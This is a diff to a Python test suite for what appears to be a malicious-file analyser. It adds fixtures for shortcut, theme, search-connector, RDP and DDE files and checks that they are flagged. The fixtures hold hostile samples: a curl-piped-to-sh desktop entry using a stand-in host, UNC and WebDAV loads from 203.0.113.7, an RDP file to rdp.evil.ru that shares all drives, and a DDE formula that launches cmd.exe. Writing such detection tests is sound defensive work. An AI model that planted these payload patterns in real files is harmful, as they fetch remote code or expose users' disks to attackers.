@@ -109,6 +109,10 @@ TEXTS = {
     "console": (b"<MMC_ConsoleFile>res://apds.dll/redirect.html?target=javascript:eval</MMC_ConsoleFile>", "settings-run-program"),
     "query": (b"WEB\r\n1\r\nhttp://203.0.113.7/a\r\n", "query-of-web"),
     "desktop": (b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl http://203.0.113.7/a | sh'\n", "shortcut-downloads"),
+    "theme": (b"[Theme]\r\n[VisualStyles]\r\nPath=\\\\203.0.113.7\\x\\a.msstyles\r\n", "shortcut-loads-share"),
+    "connector": (b"<?xml version='1.0'?><searchConnectorDescription><url>\\\\203.0.113.7\\x</url></searchConnectorDescription>", "shortcut-opens-remote-file"),
+    "remote desktop": (b"screen mode id:i:2\r\nfull address:s:rdp.evil.ru:443\r\ndrivestoredirect:s:*\r\n", "desktop-shares-disks"),
+    "program by DDE with an empty item": (b"a,=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!'',b\r\n", "dde-program"),
     "settings in UTF-16": ("<PCSettings><DeepLink>cmd.exe /c calc.exe</DeepLink></PCSettings>".encode("utf-16"), "settings-run-program"),
 }  # fmt: skip
 
@@ -125,6 +129,9 @@ async def test_a_text_that_acts_is_told(documents: Extract, kind: str) -> None:
     [
         b"[InternetShortcut]\r\nURL=https://example.org/page\r\nIconFile=C:\\a.ico\r\n",
         b"[Desktop Entry]\nType=Application\nName=Editor\nExec=gedit %U\nIcon=gedit\n",
+        b"full address:s:10.0.0.7\r\ndrivestoredirect:s:*\r\n",
+        b"full address:s:rdp.example.org\r\ndrivestoredirect:s:\r\nredirectdrives:i:0\r\n",
+        b"[Theme]\r\n[VisualStyles]\r\nPath=C:\\Windows\\a.msstyles\r\nWallpaper=C:\\a.jpg\r\n[Shell]\r\nCommand=2\r\n",
         b"[.ShellClassInfo]\r\nIconResource=C:\\Windows\\system32\\shell32.dll,4\r\n",
     ],
 )
@@ -133,6 +140,19 @@ async def test_usual_texts_get_no_score(documents: Extract, content: bytes) -> N
 
     assert (result.score, found(result)) == (NO_FINDINGS, set())
     assert result.result["shortcut"]
+
+
+async def test_a_file_of_a_share_that_an_order_names_is_told(documents: Extract) -> None:
+    result = await documents(made.lnk("C:\\Windows\\explorer.exe", "\\\\203.0.113.7@80\\dav\\a.vbs"))
+
+    assert "shortcut-opens-remote-file" in found(result)
+
+
+async def test_the_computer_of_a_connection_is_an_indicator(documents: Extract) -> None:
+    result = await documents(b"full address:s:rdp.evil.ru:443\r\nremoteapplicationprogram:s:||Storage\r\n")
+
+    assert result.result["iocs"]["domains"][0]["value"] == "rdp.evil.ru"
+    assert result.result["shortcut"]["remoteapplicationprogram"] == "||Storage"
 
 
 async def test_a_shortcut_that_is_cut_off_is_told_as_far_as_it_goes(documents: Extract) -> None:
